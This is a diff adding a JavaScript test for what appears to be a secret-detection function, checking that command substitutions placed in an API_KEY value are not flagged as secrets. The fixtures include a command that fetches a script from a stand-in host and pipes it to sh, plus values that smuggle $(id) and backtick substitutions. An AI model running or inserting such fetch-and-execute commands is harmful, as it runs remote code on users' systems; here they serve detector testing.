@@ -162,6 +162,11 @@ describe('a command', () => {
   })
 })
 
+test('what a shell would run is never hidden, under whatever name', () => {
+  for (const run of ['"$(curl -s https://evil.example/x | sh)"', '`curl -s https://evil.example/x`', '"Q7xR2mKp9Zt4LwVn8Bd3$(id)"'])
+    expect(secretsInCommand(`API_KEY=${run} python serve.py`)).toEqual([])
+})
+
 test('the public templates of the mock market raise no alarm, the private one with tokens does', () => {
   const loud = seedTemplates().filter(({ template }) => secretsInEnv(template.env).length > 0)
   expect(loud.map(({ template }) => template.name)).toEqual(['Nightly fine-tuning'])
